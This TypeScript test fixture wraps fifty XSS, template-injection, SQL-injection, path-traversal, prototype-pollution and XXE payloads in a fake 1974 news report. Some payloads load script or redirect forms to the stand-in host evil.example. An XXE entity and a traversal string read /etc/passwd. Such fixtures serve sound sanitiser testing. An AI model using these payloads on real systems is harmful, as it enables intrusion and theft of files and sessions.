// Sixty hostile reports: words and pages that try to become markup, script, an address, a query or a path.

/** One hostile report as it would be sent. */
export interface HostileReport {
  readonly name: string;
  readonly content: string;
}

/** What is tried; `OWN` runs where a script can. */
const OWN = 'document.title="owned"';

const PAYLOADS: readonly string[] = [
  `<script>${OWN}</script>`,
  `<ScRiPt >${OWN}</sCrIpT>`,
  `<script src="//evil.example/x.js"></script>`,
  `<script type="module">import "//evil.example/x.js"</script>`,
  `<<script>script>${OWN}<</script>/script>`,
  `</script><script>${OWN}</script>`,
  `</textarea><script>${OWN}</script>`,
  `</title><script>${OWN}</script>`,
  `<img src=x onerror='${OWN}'>`,
  `<img src="x" onerror=${OWN}//>`,
  `<svg/onload=${OWN}>`,
  `<svg><script>${OWN}</script></svg>`,
  `<svg><animate onbegin='${OWN}' attributeName=x dur=1s>`,
  `<math><mtext><style><img src=x onerror='${OWN}'></style></mtext></math>`,
  `<iframe src="javascript:${OWN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${OWN}</script>"></iframe>`,
  `<object data="javascript:${OWN}"></object>`,
  `<embed src="javascript:${OWN}">`,
  `<a href="javascript:${OWN}">the minister</a>`,
  `<a href="data:text/html,<script>${OWN}</script>">the minister</a>`,
  `<form action="//evil.example"><input name=q><button>Go</button></form>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>body{display:none}</style>`,
  `<div style="position:fixed;inset:0;background:url(//evil.example)">`,
  `<body onload='${OWN}'>`,
  `<details open ontoggle='${OWN}'>`,
  `<video><source onerror='${OWN}'></video>`,
  `<template><script>${OWN}</script></template>`,
  `{{constructor.constructor('${OWN}')()}}`,
  `\${${OWN}}`,
  `<%= ${OWN} %>`,
  `"><img src=x onerror='${OWN}'>`,
  `' onmouseover='${OWN}' x='`,
  `\u202e\u2066<script>${OWN}</script>\u2069`,
  `\u0000\u0008\u001b[31m<script>${OWN}</script>`,
  `\u2028\u2029<script>${OWN}</script>`,
  `&lt;script&gt;${OWN}&lt;/script&gt;`,
  `&#60;script&#62;${OWN}&#60;/script&#62;`,
  `%3Cscript%3E${OWN}%3C/script%3E`,
  `\ufeff\u200b<scr\u200bipt>${OWN}</scr\u200bipt>`,
  `'; drop table report; --`,
  `" or 1=1 --`,
  `../../../../etc/passwd`,
  `__proto__[polluted]=1 constructor.prototype.polluted`,
  `javascript:${OWN}`,
  `]]><![CDATA[<script>${OWN}</script>`,
  `<!--><script>${OWN}</script>-->`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
];

/** A report that a payload stands in everywhere that something is read: the headline, a name, a quotation, a place. */
function story(payload: string): string {
  return (
    `Talks end in Bonn ${payload}\n\nBONN, March 4, 1974 (Harbor News Agency) - Foreign Minister Andrei Gromyko met ` +
    `Henry Kissinger ${payload} in Bonn on Sunday. “We are closer ${payload} than in January,” Gromyko said. About 40 ` +
    `delegates ${payload} had come, according to Minister ${payload} Ito.\n`
  );
}

function page(payload: string): string {
  const title = payload.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
  return (
    `<!doctype html><html><head><title>Talks end in Bonn ${title}</title><meta name="author" content="${title}"></head>` +
    `<body><article><h1>Talks end in Bonn</h1><p>BONN, March 4, 1974 (Harbor News Agency) - Foreign Minister Andrei ` +
    `Gromyko met Henry Kissinger in Bonn on Sunday. ${payload}</p><p>“We are closer than in January,” Gromyko said. ` +
    `About 40 delegates had come, he said.</p><p>${title}</p></article></body></html>`
  );
}

/** Every tenth of the payloads, from each tenth place, as a page. */
const PAGES = PAYLOADS.filter((_, at) => at % 5 === 0);

/** Sixty of them: fifty texts and ten pages, each with a story round what it tries. */
export const HOSTILE: readonly HostileReport[] = [
  ...PAYLOADS.map((payload, at) => ({ name: `hostile-${at}.txt`, content: story(payload) })),
  ...PAGES.map((payload, at) => ({ name: `hostile-page-${at}.html`, content: page(payload) })),
];
